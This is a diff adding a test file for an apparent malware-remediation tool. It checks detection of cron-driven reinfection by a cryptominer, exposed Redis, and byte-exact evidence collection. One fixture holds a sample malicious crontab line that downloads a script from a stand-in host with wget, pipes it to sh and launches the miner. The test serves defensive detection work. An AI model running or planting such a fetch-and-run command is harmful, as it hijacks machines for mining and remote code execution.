@@ -1,0 +1,48 @@
+import { describe, expect, it } from 'vitest';
+import { spawnSync } from 'node:child_process';
+import { mkdtempSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import path from 'node:path';
+import type { Finding } from '../../../src/findings/types.js';
+import { judgeVerification } from '../../../src/remediate/verify.js';
+import { planEvidence } from '../../../src/remediate/evidence.js';
+import { parseEvidence } from '../../../src/remediate/evidence-frame.js';
+
+const cron: Finding = {
+  rule: 'cron.download-pipe-shell', severity: 'critical', title: 'cron downloads and runs a script', host: 'h', evidence: [], iocs: [], remedy: '',
+  artifacts: [{ type: 'cron-line', path: '/var/spool/cron/crontabs/root', lineNumber: 2, line: '* * * * * wget -q -O - http://x/d.sh | sh; /tmp/kdevtmpfsi' }],
+};
+const proc: Finding = {
+  rule: 'process.known-miner', severity: 'critical', title: 'miner running', host: 'h', evidence: [], iocs: [], remedy: '',
+  artifacts: [{ type: 'process', pid: 913, comm: 'kdevtmpfsi', exe: '/tmp/kdevtmpfsi', startTime: 1, role: 'miner' }],
+};
+const redis: Finding = { ...cron, rule: 'redis.unauthenticated', artifacts: [{ type: 'redis', configPath: '/etc/redis.conf', listen: ['0.0.0.0:6380'], pid: 3 }] };
+
+describe('judgeVerification', () => {
+  it('is clean when only exposure findings (left to harden) remain', () => {
+    expect(judgeVerification([redis]).state).toBe('clean');
+  });
+  it('names the respawned process and the cron line it came from', () => {
+    const v = judgeVerification([proc, cron, redis]);
+    expect(v.state).toBe('reinfected');
+    expect(v.comebacks[0]!.what).toBe('process kdevtmpfsi (pid 913, /tmp/kdevtmpfsi)');
+    expect(v.comebacks[0]!.from[0]).toMatch(/^cron line 2 of \/var\/spool\/cron\/crontabs\/root: /);
+  });
+});
+
+describe('evidence', () => {
+  it('reads files back byte-exact through the frame, absent ones marked', () => {
+    const dir = mkdtempSync(path.join(tmpdir(), 'ms-ev-'));
+    const f = path.join(dir, 'bin\nary');
+    const bytes = Buffer.from([0, 10, 255, 77, 83, 69, 32, 10]);
+    writeFileSync(f, bytes);
+    const step = planEvidence([{ type: 'file', path: f, reason: 'x' }, { type: 'file', path: path.join(dir, 'gone'), reason: 'y' }])[0]!;
+    const r = spawnSync('/bin/sh', ['-c', step.command]);
+    expect(r.status).toBe(0);
+    const items = parseEvidence(r.stdout);
+    expect(items).toHaveLength(2);
+    expect(items[0]!.path).toBe(f);
+    expect(items[0]!.content).toEqual(bytes);
+    expect(items[1]!.content).toBeNull();
+  });
+});
